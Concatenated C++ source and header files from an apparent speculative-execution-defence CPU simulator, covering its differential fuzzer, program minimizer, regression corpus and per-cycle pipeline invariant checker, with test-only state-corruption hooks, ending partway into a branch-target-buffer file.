        const std::uint64_t before = core.committedInsts();
        const Cycle slice =
            std::min<Cycle>(kSliceCycles, max_cycles - core.cycle());
        core.run(kSliceInsts, slice);
        if (!core.halted() && core.committedInsts() == before) {
            why = "no commit progress for " + std::to_string(slice) +
                  " cycles at cycle " + std::to_string(core.cycle());
            return false;
        }
    }
    if (!core.halted()) {
        why = "cycle budget (" + std::to_string(max_cycles) +
              ") exhausted";
        return false;
    }
    return true;
}

} // namespace

const char *
fuzzFailureKindName(FuzzFailureKind kind)
{
    switch (kind) {
      case FuzzFailureKind::kArchMismatch:
        return "arch-mismatch";
      case FuzzFailureKind::kFaultMismatch:
        return "fault-mismatch";
      case FuzzFailureKind::kCountMismatch:
        return "count-mismatch";
      case FuzzFailureKind::kTaintMismatch:
        return "taint-mismatch";
      case FuzzFailureKind::kInvariantViolation:
        return "invariant-violation";
      case FuzzFailureKind::kCoreHang:
        return "core-hang";
    }
    return "?";
}

RandomProgramParams
paramsForSeed(std::uint64_t seed)
{
    // Derive the shape from its own RNG stream (offset so it never
    // correlates with the program-content stream for the same seed).
    XRandom rng(seed * 0x9E3779B97F4A7C15ULL + 0x5DEECE66DULL);
    RandomProgramParams params;
    params.blocks = static_cast<unsigned>(rng.range(4, 20));
    params.opsPerBlock = static_cast<unsigned>(rng.range(4, 14));
    params.loopIterations = static_cast<unsigned>(rng.range(1, 6));
    params.functions = static_cast<unsigned>(rng.range(1, 4));
    params.useMemory = !rng.chance(1, 8);
    params.useIndirectCalls = !rng.chance(1, 4);
    params.useFences = rng.chance(1, 2);
    params.useClflush = rng.chance(1, 2);
    params.useRdtsc = rng.chance(1, 2);
    params.callChainDepth = static_cast<unsigned>(rng.below(5));
    return params;
}

SeedOutcome
fuzzProgram(const Program &prog, std::uint64_t seed,
            const FuzzParams &p)
{
    SeedOutcome out;
    const std::vector<Profile> profiles =
        p.profiles.empty() ? allProfiles() : p.profiles;
    const SecretMap secrets = fuzzSecrets(prog);

    // --- the architectural oracle ----------------------------------------
    Interpreter ref(prog);
    TaintEngine refTaint(secrets);
    if (p.compareTaint)
        ref.attachDift(&refTaint);
    ref.run(kOracleInsts);
    if (!ref.halted()) {
        out.skipped = true;
        return out;
    }

    ModelEndState want;
    for (int r = 0; r < kNumArchRegs; ++r)
        want.regs[r] = ref.reg(static_cast<RegId>(r));
    for (int i = 0; i < kNumMsrRegs; ++i)
        want.msrs[i] = ref.msr(static_cast<unsigned>(i));
    want.insts = ref.instCount();
    want.faults = ref.faultCount();
    if (p.compareTaint) {
        for (int r = 0; r < kNumArchRegs; ++r)
            want.regTaint[r] =
                refTaint.archRegTaint(static_cast<RegId>(r));
    }
    collectMemory(prog, ref.mem(), p.compareTaint ? &refTaint : nullptr,
                  want);

    Fnv fnv;
    fnv.u64(seed);
    hashState(fnv, want);

    const auto fail = [&](Profile profile, FuzzFailureKind kind,
                          std::string detail) {
        out.failures.push_back(
            {seed, profile, kind, std::move(detail)});
    };

    // --- every core model under test --------------------------------------
    for (Profile profile : profiles) {
        SimConfig cfg = makeProfile(profile);
        cfg.memory.mshrEntries = p.mshrEntries;
        auto core = makeCore(prog, cfg);
        TaintEngine coreTaint(secrets);
        if (p.compareTaint)
            core->attachDift(&coreTaint);
        InvariantChecker checker;
        if (p.checkInvariants)
            core->attachChecker(&checker);

        std::string why;
        if (!runCoreSliced(*core, p.maxCycles, why)) {
            fail(profile, FuzzFailureKind::kCoreHang, why);
            fnv.u64(static_cast<std::uint64_t>(profile));
            fnv.str(why);
            continue;
        }

        ModelEndState got;
        for (int r = 0; r < kNumArchRegs; ++r)
            got.regs[r] = core->archReg(static_cast<RegId>(r));
        for (int i = 0; i < kNumMsrRegs; ++i)
            got.msrs[i] = core->msr(static_cast<unsigned>(i));
        got.insts = core->committedInsts();
        got.faults = core->counters().faults;
        if (p.compareTaint) {
            for (int r = 0; r < kNumArchRegs; ++r)
                got.regTaint[r] =
                    core->archRegTaint(static_cast<RegId>(r));
        }
        collectMemory(prog, core->mem(),
                      p.compareTaint ? &coreTaint : nullptr, got);

        fnv.u64(static_cast<std::uint64_t>(profile));
        hashState(fnv, got);

        for (int r = 0; r < kNumArchRegs; ++r) {
            if (got.regs[r] != want.regs[r]) {
                fail(profile, FuzzFailureKind::kArchMismatch,
                     "r" + std::to_string(r) + " = " +
                         std::to_string(got.regs[r]) + ", oracle " +
                         std::to_string(want.regs[r]));
                break;
            }
        }
        for (int i = 0; i < kNumMsrRegs; ++i) {
            if (got.msrs[i] != want.msrs[i]) {
                fail(profile, FuzzFailureKind::kArchMismatch,
                     "msr" + std::to_string(i) + " = " +
                         std::to_string(got.msrs[i]) + ", oracle " +
                         std::to_string(want.msrs[i]));
                break;
            }
        }
        if (got.mem != want.mem) {
            std::size_t i = 0;
            while (i < got.mem.size() && got.mem[i] == want.mem[i])
                ++i;
            fail(profile, FuzzFailureKind::kArchMismatch,
                 "memory byte @" +
                     std::to_string(memIndexToAddr(prog, i)) +
                     " differs");
        }
        if (got.faults != want.faults) {
            fail(profile, FuzzFailureKind::kFaultMismatch,
                 std::to_string(got.faults) + " delivered faults, "
                 "oracle " + std::to_string(want.faults));
        } else if (want.faults == 0 && got.insts != want.insts) {
            // Faulting instructions are counted differently by design
            // (the interpreter counts the faulting op, the OoO core
            // does not), so counts are only comparable fault-free.
            fail(profile, FuzzFailureKind::kCountMismatch,
                 std::to_string(got.insts) + " committed, oracle " +
                     std::to_string(want.insts));
        }
        if (p.compareTaint) {
            for (int r = 0; r < kNumArchRegs; ++r) {
                if (got.regTaint[r] != want.regTaint[r]) {
                    fail(profile, FuzzFailureKind::kTaintMismatch,
                         "taint of r" + std::to_string(r) + " = " +
                             std::to_string(got.regTaint[r]) +
                             ", oracle " +
                             std::to_string(want.regTaint[r]));
                    break;
                }
            }
            if (got.memTaint != want.memTaint) {
                std::size_t i = 0;
                while (i < got.memTaint.size() &&
                       got.memTaint[i] == want.memTaint[i]) {
                    ++i;
                }
                fail(profile, FuzzFailureKind::kTaintMismatch,
                     "memory taint @" +
                         std::to_string(memIndexToAddr(prog, i)) +
                         " differs");
            }
        }
        if (p.checkInvariants && !checker.clean()) {
            fail(profile, FuzzFailureKind::kInvariantViolation,
                 std::to_string(checker.totalViolations()) +
                     " violations, first: " +
                     InvariantChecker::describe(
                         checker.violations().front()));
        }
    }

    for (const FuzzFailure &f : out.failures) {
        fnv.u64(static_cast<std::uint64_t>(f.profile));
        fnv.u64(static_cast<std::uint64_t>(f.kind));
        fnv.str(f.detail);
    }
    out.hash = fnv.h;
    return out;
}

FuzzResult
runFuzz(const FuzzParams &p,
        const std::function<void(std::size_t, std::size_t)> &progress)
{
    const std::size_t n = static_cast<std::size_t>(p.runs);
    std::vector<SeedOutcome> slots(n);

    std::mutex progress_mutex;
    std::size_t done = 0;
    ThreadPool pool(p.jobs == 0 ? 1 : p.jobs);
    pool.parallelFor(n, [&](std::size_t i) {
        const std::uint64_t seed = p.seed0 + i;
        const Program prog =
            generateRandomProgram(seed, paramsForSeed(seed));
        slots[i] = fuzzProgram(prog, seed, p);
        if (progress) {
            std::lock_guard<std::mutex> lock(progress_mutex);
            progress(++done, n);
        }
    });

    // Reduce in seed order: bit-identical for any jobs count.
    FuzzResult result;
    Fnv fnv;
    for (std::size_t i = 0; i < n; ++i) {
        const SeedOutcome &o = slots[i];
        if (o.skipped) {
            ++result.skipped;
            continue;
        }
        ++result.executed;
        fnv.u64(o.hash);
        result.failures.insert(result.failures.end(),
                               o.failures.begin(), o.failures.end());
    }
    result.fingerprint = fnv.h;
    return result;
}

InvariantKind
expectedInvariant(FuzzCorruption kind)
{
    switch (kind) {
      case FuzzCorruption::kFreeListLeak:
      case FuzzCorruption::kDoubleFree:
        return InvariantKind::kFreeList;
      case FuzzCorruption::kEarlyWakeup:
        return InvariantKind::kWakeupOrder;
      case FuzzCorruption::kRenameCorrupt:
        return InvariantKind::kRenameMap;
      case FuzzCorruption::kRobReorder:
        return InvariantKind::kRobOrder;
      case FuzzCorruption::kMshrDupPrimary:
        return InvariantKind::kMshrPrimary;
      case FuzzCorruption::kMshrGhostTarget:
        return InvariantKind::kMshrTargets;
      case FuzzCorruption::kMshrOverflow:
        return InvariantKind::kMshrOccupancy;
      case FuzzCorruption::kMshrStuckFill:
        return InvariantKind::kMshrFill;
      case FuzzCorruption::kCrossThreadRenameBleed:
        return InvariantKind::kSmtPartition;
      default:
        return InvariantKind::kNumInvariantKinds;
    }
}

InjectionOutcome
runWithInjection(const Program &prog, Profile profile,
                 FuzzCorruption kind, Cycle inject_cycle,
                 Cycle max_cycles)
{
    InjectionOutcome out;
    SimConfig cfg = makeProfile(profile);
    if (cfg.inOrder)
        return out; // nothing to corrupt in the in-order model

    // The MSHR corruptions need pending entries to mangle; profiles
    // default to the legacy eager model, where the hooks never apply.
    switch (kind) {
      case FuzzCorruption::kMshrDupPrimary:
      case FuzzCorruption::kMshrGhostTarget:
      case FuzzCorruption::kMshrOverflow:
      case FuzzCorruption::kMshrStuckFill:
        cfg.memory.mshrEntries = 4;
        break;
      case FuzzCorruption::kCrossThreadRenameBleed:
        // The bleed aliases two hardware threads' register
        // partitions, so the core must actually have two.
        cfg.core.smtThreads = 2;
        break;
      default:
        break;
    }

    auto core = std::make_unique<OooCore>(prog, cfg);
    InvariantChecker checker;
    core->attachChecker(&checker);

    // Phase 1: run cleanly up to the injection point.
    while (!core->halted() && core->cycle() < inject_cycle) {
        const std::uint64_t before = core->committedInsts();
        const Cycle slice = std::min<Cycle>(
            kSliceCycles, inject_cycle - core->cycle());
        core->run(kSliceInsts, slice);
        if (!core->halted() && core->committedInsts() == before)
            return out; // wedged before the injection point
    }

    // Short programs may halt before the requested injection point;
    // restart and inject from cycle 0 rather than reporting nothing
    // applicable.
    if (core->halted() && inject_cycle > 0) {
        core = std::make_unique<OooCore>(prog, cfg);
        core->attachChecker(&checker);
    }

    // Phase 2: apply the corruption, retrying on cycles where the
    // required state (e.g. an unsafe in-flight producer) is absent.
    while (!core->halted() && core->cycle() < max_cycles) {
        if (core->corruptForTest(kind)) {
            out.applied = true;
            break;
        }
        core->tick();
    }
    if (!out.applied)
        return out;

    // Phase 3: per-cycle checking means the very next tick must see
    // it. Tick only a handful of cycles — the corrupted pipeline is
    // not expected to stay runnable.
    for (int i = 0; i < 4 && !core->halted(); ++i)
        core->tick();

    out.violations = checker.totalViolations();
    if (!checker.violations().empty()) {
        out.firstViolation =
            InvariantChecker::describe(checker.violations().front());
        for (const InvariantViolation &v : checker.violations()) {
            if (std::find(out.kinds.begin(), out.kinds.end(), v.kind) ==
                out.kinds.end()) {
                out.kinds.push_back(v.kind);
            }
        }
    }
    return out;
}

void
FuzzResult::registerStats(StatsRegistry &reg,
                          const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("executed", &executed, "seeds judged");
    g.counter("skipped", &skipped,
              "seeds whose oracle run did not halt cleanly");
    g.counter("fingerprint", &fingerprint,
              "order-stable campaign outcome hash");
    g.formula("failures",
              [this] { return static_cast<double>(failures.size()); },
              "recorded (seed, profile) failures");
}

} // namespace nda
