/**
 * @file
 * Differential fuzzing driver: random terminating programs are run on
 * the reference interpreter (the architectural oracle) and on every
 * requested machine profile — in-order, insecure OoO, all NDA
 * policies, both InvisiSpec models — with three layers of checking:
 *
 *  1. architectural state (registers, every data segment, fault and
 *     instruction counts) must match the interpreter, since NDA only
 *     ever changes timing (paper §5);
 *  2. the DIFT oracle's *architectural* taint state must match: the
 *     same secret bytes must end up tainting the same registers and
 *     memory locations regardless of the core model (timing-dependent
 *     leak events are explicitly NOT compared);
 *  3. the per-cycle InvariantChecker must stay silent on the OoO
 *     pipeline for the entire run.
 *
 * Seeds fan out over the shared ThreadPool; each seed's verdict is
 * written into its own slot and reduced in seed order, so the result
 * (including the fingerprint) is bit-identical for any --jobs value.
 */

#ifndef NDASIM_FUZZ_DIFFERENTIAL_FUZZER_HH
#define NDASIM_FUZZ_DIFFERENTIAL_FUZZER_HH

#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "fuzz/invariant_checker.hh"
#include "harness/profiles.hh"
#include "isa/program.hh"
#include "isa/random_program.hh"

namespace nda {

class StatsRegistry;

/** Fuzzing campaign knobs. */
struct FuzzParams {
    std::uint64_t runs = 100;   ///< number of seeds to test
    std::uint64_t seed0 = 1;    ///< first seed (run i uses seed0 + i)
    unsigned jobs = 1;          ///< concurrent seeds (1 = serial)
    bool checkInvariants = true;
    bool compareTaint = true;
    /** Profiles to cross-check; empty = all ten paper profiles. */
    std::vector<Profile> profiles;
    /** Per-core cycle budget before a run counts as hung. */
    Cycle maxCycles = 20'000'000;
    /** MSHR entries per L1 file on every profile (0 = legacy eager
     *  fills). Timing-only, so the architectural oracle is unchanged —
     *  this axis stresses the non-blocking plumbing. */
    unsigned mshrEntries = 0;
};

/** What went wrong for one (seed, profile) pair. */
enum class FuzzFailureKind : std::uint8_t {
    kArchMismatch = 0,  ///< register/memory state differs from oracle
    kFaultMismatch,     ///< delivered-fault count differs
    kCountMismatch,     ///< committed instruction count differs
    kTaintMismatch,     ///< DIFT architectural taint differs
    kInvariantViolation,///< InvariantChecker fired during the run
    kCoreHang,          ///< core stopped committing or blew the budget
};

const char *fuzzFailureKindName(FuzzFailureKind kind);

/** One recorded failure. */
struct FuzzFailure {
    std::uint64_t seed = 0;
    Profile profile = Profile::kOoo;
    FuzzFailureKind kind = FuzzFailureKind::kArchMismatch;
    std::string detail;
};

/** Verdict for one candidate program across all profiles. */
struct SeedOutcome {
    bool skipped = false;   ///< oracle did not halt cleanly; not judged
    std::uint64_t hash = 0; ///< deterministic outcome fingerprint
    std::vector<FuzzFailure> failures;
};

/** Campaign summary. */
struct FuzzResult {
    std::uint64_t executed = 0;
    std::uint64_t skipped = 0;
    /** Order-stable hash over every seed's outcome; identical for any
     *  jobs count, so CI can assert reproducibility cheaply. */
    std::uint64_t fingerprint = 0;
    std::vector<FuzzFailure> failures; ///< in seed order

    /** Bind campaign totals under `prefix` (for the run manifest).
     *  The result must outlive the registry's last dump. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;
};

/**
 * Structurally varied generator parameters for one seed (block count,
 * loop depth, opcode extras...), so a campaign covers many program
 * shapes rather than one distribution. Deterministic per seed.
 */
RandomProgramParams paramsForSeed(std::uint64_t seed);

/**
 * Judge one candidate program across `p.profiles` (seed is used only
 * for labeling and hashing). This is the primitive the campaign
 * driver, the minimizer predicate, and the corpus replay test share.
 */
SeedOutcome fuzzProgram(const Program &prog, std::uint64_t seed,
                        const FuzzParams &p);

/** Run a whole campaign, fanning seeds out over `p.jobs` lanes. */
FuzzResult runFuzz(const FuzzParams &p,
                   const std::function<void(std::size_t, std::size_t)>
                       &progress = nullptr);

/** Result of an injection experiment (checker self-test). */
struct InjectionOutcome {
    bool applied = false;  ///< the corruption found applicable state
    std::uint64_t violations = 0;
    std::string firstViolation;
    std::vector<InvariantKind> kinds; ///< distinct kinds reported
};

/**
 * Run `prog` on `profile`'s OoO core with the checker attached and
 * deliberately corrupt pipeline state with `kind` at the first
 * applicable cycle at or after `inject_cycle` (retrying each cycle).
 * The run stops shortly after the corruption lands — per-cycle
 * checking means detection must be immediate — so cascading damage
 * cannot crash the host process. In-order profiles never apply.
 */
InjectionOutcome runWithInjection(const Program &prog, Profile profile,
                                  FuzzCorruption kind,
                                  Cycle inject_cycle,
                                  Cycle max_cycles = 4'000'000);

/** The invariant family a given corruption must trip. */
InvariantKind expectedInvariant(FuzzCorruption kind);

} // namespace nda

#endif // NDASIM_FUZZ_DIFFERENTIAL_FUZZER_HH
