/**
 * @file
 * Corpus of minimized failing programs.
 *
 * Every failure the fuzzer minimizes is serialized to a small text
 * file (see isa/program_io.hh for the format) under a corpus
 * directory, normally `tests/corpus/`. The files are regression
 * tests: `test_fuzz_corpus` replays each one across every security
 * profile on every build, so a divergence that was found once can
 * never silently come back.
 */

#ifndef NDASIM_FUZZ_CORPUS_HH
#define NDASIM_FUZZ_CORPUS_HH

#include <cstdint>
#include <string>
#include <vector>

#include "isa/program.hh"

namespace nda {

/** Paths of all corpus entries (files named *.prog) under `dir`,
 *  sorted by filename so iteration order is stable across
 *  filesystems. Returns empty if the directory does not exist. */
std::vector<std::string> listCorpus(const std::string &dir);

/** Parse one corpus entry. Throws std::runtime_error with the
 *  offending line on malformed input. */
Program loadCorpusEntry(const std::string &path);

/**
 * Serialize `prog` into `dir` (created if missing) as
 * `<stem>-seed<seed>.prog` with `header` lines rendered as leading
 * comments. Returns the path written. An existing file with the same
 * name is overwritten — entries are keyed by (stem, seed), and
 * re-minimizing the same seed should refresh the repro.
 */
std::string writeCorpusEntry(const std::string &dir,
                             const std::string &stem, std::uint64_t seed,
                             const Program &prog,
                             const std::vector<std::string> &header);

} // namespace nda

#endif // NDASIM_FUZZ_CORPUS_HH
