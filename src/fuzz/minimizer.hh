/**
 * @file
 * Delta-debugging minimizer for failing fuzz programs.
 *
 * A 1000-instruction random program that diverges between two core
 * models is nearly impossible to debug; the same divergence in eight
 * instructions usually reads like a bug report. The minimizer shrinks
 * a failing program while a caller-supplied predicate ("still fails
 * the same way") keeps holding:
 *
 *  - ddmin-style chunk removal, where "removal" substitutes NOPs so
 *    absolute PCs — and therefore every branch target — survive;
 *  - immediate reduction toward 0/1 (loop trip counts, addresses,
 *    literals) for the instructions that remain.
 *
 * RDTSC neutralizer pairs (rdtsc rd; cmpeq rd,rd,rd — emitted by the
 * generator so timing never reaches architectural state) are treated
 * as atomic units: dropping only the neutralizer would manufacture a
 * fake timing divergence and send the search chasing it.
 */

#ifndef NDASIM_FUZZ_MINIMIZER_HH
#define NDASIM_FUZZ_MINIMIZER_HH

#include <cstdint>
#include <functional>

#include "isa/program.hh"

namespace nda {

/** Search effort and outcome accounting. */
struct MinimizeStats {
    unsigned candidatesTried = 0;   ///< predicate invocations
    unsigned opsBefore = 0;         ///< non-NOP instructions, input
    unsigned opsAfter = 0;          ///< non-NOP instructions, output
    unsigned immsReduced = 0;
};

/** True iff `candidate` still reproduces the original failure. */
using FailurePredicate = std::function<bool(const Program &)>;

/**
 * Shrink `prog` while `fails` keeps returning true. `fails(prog)`
 * itself must hold on entry (the caller verified the failure; the
 * minimizer does not re-check the unmodified input). At most
 * `max_candidates` predicate calls are spent; the best program found
 * so far is returned when the budget runs out.
 */
Program minimizeProgram(const Program &prog, const FailurePredicate &fails,
                        MinimizeStats *stats = nullptr,
                        unsigned max_candidates = 2000);

} // namespace nda

#endif // NDASIM_FUZZ_MINIMIZER_HH
