#include "fuzz/minimizer.hh"

#include <cstddef>
#include <vector>

namespace nda {

namespace {

bool
isNop(const MicroOp &uop)
{
    return uop.op == Opcode::kNop;
}

unsigned
countOps(const Program &prog)
{
    unsigned n = 0;
    for (const MicroOp &uop : prog.code) {
        if (!isNop(uop))
            n += 1;
    }
    return n;
}

/** Is this (pc, pc+1) a generator RDTSC neutralizer pair? */
bool
isRdtscPair(const Program &prog, std::size_t pc)
{
    if (prog.code[pc].op != Opcode::kRdTsc ||
        pc + 1 >= prog.code.size()) {
        return false;
    }
    const MicroOp &next = prog.code[pc + 1];
    const RegId rd = prog.code[pc].rd;
    return next.op == Opcode::kCmpEq && next.rd == rd &&
           next.rs1 == rd && next.rs2 == rd;
}

/**
 * Removable atomic units: mostly single instructions, with RDTSC
 * neutralizer pairs fused. NOPs (nothing to remove) and HALTs
 * (removal would let execution run off the program) are excluded.
 */
std::vector<std::vector<std::size_t>>
buildUnits(const Program &prog)
{
    std::vector<std::vector<std::size_t>> units;
    std::size_t pc = 0;
    while (pc < prog.code.size()) {
        const MicroOp &uop = prog.code[pc];
        if (isNop(uop) || uop.op == Opcode::kHalt) {
            ++pc;
            continue;
        }
        if (isRdtscPair(prog, pc)) {
            units.push_back({pc, pc + 1});
            pc += 2;
            continue;
        }
        units.push_back({pc});
        ++pc;
    }
    return units;
}

/** Does the instruction's imm carry reducible data (not a branch
 *  target or an MSR index)? */
bool
immReducible(const MicroOp &uop)
{
    switch (uop.op) {
      case Opcode::kMovImm:
      case Opcode::kAddImm:
      case Opcode::kSubImm:
      case Opcode::kAndImm:
      case Opcode::kOrImm:
      case Opcode::kXorImm:
      case Opcode::kShlImm:
      case Opcode::kShrImm:
      case Opcode::kMulImm:
      case Opcode::kLoad:
      case Opcode::kStore:
      case Opcode::kClflush:
      case Opcode::kPrefetch:
        return uop.imm != 0;
      default:
        return false;
    }
}

} // namespace

Program
minimizeProgram(const Program &prog, const FailurePredicate &fails,
                MinimizeStats *stats, unsigned max_candidates)
{
    MinimizeStats local;
    MinimizeStats &st = stats ? *stats : local;
    st.opsBefore = countOps(prog);

    Program current = prog;
    unsigned budget = max_candidates;

    const auto try_candidate = [&](const Program &candidate) {
        if (budget == 0)
            return false;
        --budget;
        ++st.candidatesTried;
        return fails(candidate);
    };

    // --- phase 1: ddmin chunk removal by NOP substitution ---------------
    // Replacing instructions with NOPs keeps every PC — and therefore
    // every branch target and the function-pointer table — valid, so
    // structural bookkeeping reduces to flipping opcodes.
    bool shrunk = true;
    while (shrunk && budget > 0) {
        shrunk = false;
        const auto units = buildUnits(current);
        if (units.empty())
            break;
        std::vector<bool> removed(units.size(), false);

        std::size_t chunk = units.size() / 2;
        if (chunk == 0)
            chunk = 1;
        while (budget > 0) {
            bool removed_any = false;
            for (std::size_t start = 0;
                 start < units.size() && budget > 0; start += chunk) {
                bool all_removed = true;
                for (std::size_t u = start;
                     u < units.size() && u < start + chunk; ++u) {
                    all_removed = all_removed && removed[u];
                }
                if (all_removed)
                    continue;

                Program candidate = current;
                for (std::size_t u = start;
                     u < units.size() && u < start + chunk; ++u) {
                    for (std::size_t pc : units[u])
                        candidate.code[pc] = MicroOp{};
                }
                if (try_candidate(candidate)) {
                    current = std::move(candidate);
                    for (std::size_t u = start;
                         u < units.size() && u < start + chunk; ++u) {
                        removed[u] = true;
                    }
                    removed_any = true;
                    shrunk = true;
                }
            }
            if (chunk == 1) {
                if (!removed_any)
                    break;
            } else {
                chunk /= 2;
                if (chunk == 0)
                    chunk = 1;
            }
        }
    }

    // --- phase 2: immediate reduction ------------------------------------
    // Loop trip counts, displacements, and literals shrink toward 0
    // (or 1) so the repro reads with small numbers.
    for (std::size_t pc = 0; pc < current.code.size() && budget > 0;
         ++pc) {
        if (!immReducible(current.code[pc]))
            continue;
        for (std::int64_t target : {std::int64_t{0}, std::int64_t{1}}) {
            if (current.code[pc].imm == target)
                continue;
            Program candidate = current;
            candidate.code[pc].imm = target;
            if (try_candidate(candidate)) {
                current = std::move(candidate);
                ++st.immsReduced;
                break;
            }
        }
    }

    st.opsAfter = countOps(current);
    return current;
}

} // namespace nda
