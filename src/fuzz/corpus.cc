#include "fuzz/corpus.hh"

#include <algorithm>
#include <filesystem>

#include "isa/program_io.hh"

namespace nda {

namespace fs = std::filesystem;

std::vector<std::string>
listCorpus(const std::string &dir)
{
    std::vector<std::string> paths;
    std::error_code ec;
    for (const auto &entry : fs::directory_iterator(dir, ec)) {
        if (entry.is_regular_file() &&
            entry.path().extension() == ".prog") {
            paths.push_back(entry.path().string());
        }
    }
    std::sort(paths.begin(), paths.end());
    return paths;
}

Program
loadCorpusEntry(const std::string &path)
{
    return loadProgramFile(path);
}

std::string
writeCorpusEntry(const std::string &dir, const std::string &stem,
                 std::uint64_t seed, const Program &prog,
                 const std::vector<std::string> &header)
{
    fs::create_directories(dir);
    const fs::path path =
        fs::path(dir) / (stem + "-seed" + std::to_string(seed) + ".prog");
    std::string joined;
    for (const std::string &line : header) {
        if (!joined.empty())
            joined += '\n';
        joined += line;
    }
    saveProgramFile(path.string(), prog, joined);
    return path.string();
}

} // namespace nda
