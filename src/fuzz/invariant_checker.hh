/**
 * @file
 * Cycle-level micro-architectural invariant checker for the OoO core.
 *
 * The differential fuzzer catches *architectural* divergence between
 * core models, but a renaming or wakeup bug can cancel out by the time
 * a program halts. This checker closes that gap: attached via
 * CoreBase::attachChecker it is invoked at the end of every OooCore
 * tick (behind a null-pointer guard, like the DIFT engine, so detached
 * simulation pays nothing) and validates structural invariants the
 * pipeline must uphold on EVERY cycle:
 *
 *  - ROB entries appear in strict age (seq) order and are never
 *    squashed or committed (both are removed eagerly);
 *  - the unresolved-speculative-branch list mirrors exactly the
 *    in-ROB speculative branches that have not executed;
 *  - physical-register accounting: free lists, committed maps, and
 *    in-flight destinations partition the register file with no
 *    duplicates and no leaks (squash recovery is the hard case);
 *  - SMT partition isolation (only checked with >1 hardware thread):
 *    every register a thread's rename map, commit map, or in-flight
 *    destinations reference is owned by that thread's partition, and
 *    every ROB/LSQ entry carries its owning thread's id — a breach
 *    means one context can read (or free) its co-resident's state;
 *  - the speculative rename map equals the committed map overridden
 *    by the youngest in-flight writer of each architectural register;
 *  - LSQ load/store queues are age-ordered subsets of the ROB;
 *  - wakeup ordering: an in-flight destination is ready iff its
 *    producer broadcast, and only executed producers broadcast;
 *  - the NDA safety property (paper §5), evaluated per thread under
 *    that thread's policy (SMT runs mixed protection levels): no
 *    value produced in the shadow of an unresolved speculative branch
 *    (or an unresolved-address store bypass, or a non-head load under
 *    the load restriction) may have been broadcast to consumers;
 *  - MSHR files (when non-blocking mode is on): one primary entry per
 *    line, occupancy within capacity, every data-side load target
 *    backed by a live LSQ load of the target's thread, and every fill
 *    due within the maximal legal miss latency (L2 + DRAM) — a later
 *    fill is one the memory system lost, whose waiters would sleep
 *    forever.
 */

#ifndef NDASIM_FUZZ_INVARIANT_CHECKER_HH
#define NDASIM_FUZZ_INVARIANT_CHECKER_HH

#include <cstdint>
#include <string>
#include <vector>

#include "common/types.hh"

namespace nda {

class OooCore;

/**
 * Deliberate state corruptions OooCore::corruptForTest can apply so
 * tests can prove the checker actually detects violations (a checker
 * that cannot fail is itself untested).
 */
enum class FuzzCorruption : std::uint8_t {
    kNone = 0,
    kFreeListLeak,   ///< drop a register from the free list
    kDoubleFree,     ///< free a register still architecturally mapped
    kEarlyWakeup,    ///< set ready on an unsafe, un-broadcast producer
    kRenameCorrupt,  ///< alias two rename-map entries
    kRobReorder,     ///< swap the age order of two ROB entries
    kMshrDupPrimary, ///< two primary MSHR entries for one line
    kMshrGhostTarget, ///< MSHR load target with no LSQ load behind it
    kMshrOverflow,   ///< MSHR occupancy pushed past capacity
    kMshrStuckFill,  ///< fill scheduled past any legal miss latency
    kCrossThreadRenameBleed, ///< thread 0's rename map aliases thread 1's partition
};

/** Name of a corruption kind (CLI flag spelling). */
const char *fuzzCorruptionName(FuzzCorruption kind);
/** Parse a corruption kind from its CLI spelling; kNone if unknown. */
FuzzCorruption fuzzCorruptionFromName(const std::string &name);

/** The invariant families the checker enforces. */
enum class InvariantKind : std::uint8_t {
    kRobOrder = 0,        ///< ROB age order / no dead entries
    kBranchBookkeeping,   ///< unresolvedBranches mirrors the ROB
    kFreeList,            ///< phys-reg partition, no leak/double-free
    kRenameMap,           ///< rename map vs commit map + ROB writers
    kLsqOrder,            ///< LSQ age order and ROB membership
    kWakeupOrder,         ///< ready bit iff broadcast, broadcast iff executed
    kNdaSafety,           ///< no unsafe value reached consumers
    kMshrPrimary,         ///< at most one primary entry per line
    kMshrTargets,         ///< load targets backed by live LSQ loads
    kMshrOccupancy,       ///< occupancy within the file's capacity
    kMshrFill,            ///< fills due within the legal latency bound
    kSmtPartition,        ///< per-thread phys-reg/ROB/LSQ isolation
    kNumInvariantKinds,
};

const char *invariantKindName(InvariantKind kind);

/** One detected invariant violation. */
struct InvariantViolation {
    InvariantKind kind = InvariantKind::kRobOrder;
    Cycle cycle = 0;            ///< cycle at whose end it was seen
    InstSeqNum seq = kInvalidSeqNum; ///< offending instruction, if any
    std::string detail;
};

/** Per-cycle structural validator (friend of OooCore). */
class InvariantChecker
{
  public:
    /** Validate all invariants at the end of `core`'s current cycle.
     *  Violations accumulate; checking stops recording (but keeps
     *  counting) past `kMaxRecorded` so a broken core cannot OOM the
     *  fuzzer. */
    void onCycleEnd(const OooCore &core);

    bool clean() const { return totalViolations_ == 0; }
    std::uint64_t totalViolations() const { return totalViolations_; }
    const std::vector<InvariantViolation> &violations() const
    {
        return violations_;
    }
    std::uint64_t cyclesChecked() const { return cyclesChecked_; }

    /** Drop recorded state so one checker can serve several runs. */
    void reset();

    /** One-line rendering of a violation (for logs and asserts). */
    static std::string describe(const InvariantViolation &v);

    /** Recorded-violation cap (the counter keeps going past it). */
    static constexpr std::size_t kMaxRecorded = 64;

  private:
    void report(InvariantKind kind, Cycle cycle, InstSeqNum seq,
                std::string detail);

    void checkRobOrder(const OooCore &core);
    void checkBranchBookkeeping(const OooCore &core);
    void checkFreeList(const OooCore &core);
    void checkSmtPartition(const OooCore &core);
    void checkRenameMap(const OooCore &core);
    void checkLsq(const OooCore &core);
    void checkWakeupOrder(const OooCore &core);
    void checkNdaSafety(const OooCore &core);
    void checkMshr(const OooCore &core);

    std::vector<InvariantViolation> violations_;
    std::uint64_t totalViolations_ = 0;
    std::uint64_t cyclesChecked_ = 0;
};

} // namespace nda

#endif // NDASIM_FUZZ_INVARIANT_CHECKER_HH
