#include "branch/btb.hh"

#include "common/log.hh"
#include "obs/stats_registry.hh"

namespace nda {

Btb::Btb(const BtbParams &p)
    : params_(p)
{
    NDA_ASSERT(params_.ways > 0 && params_.entries % params_.ways == 0,
               "btb entries/ways mismatch");
    numSets_ = params_.entries / params_.ways;
    entries_.resize(params_.entries);
}

Btb::Snapshot
Btb::save() const
{
    return Snapshot{entries_, useClock_, hits_, misses_, updates_};
}

void
Btb::restore(const Snapshot &snap)
{
    NDA_ASSERT(snap.entries.size() == entries_.size(),
               "btb snapshot geometry mismatch (%zu vs %zu entries)",
               snap.entries.size(), entries_.size());
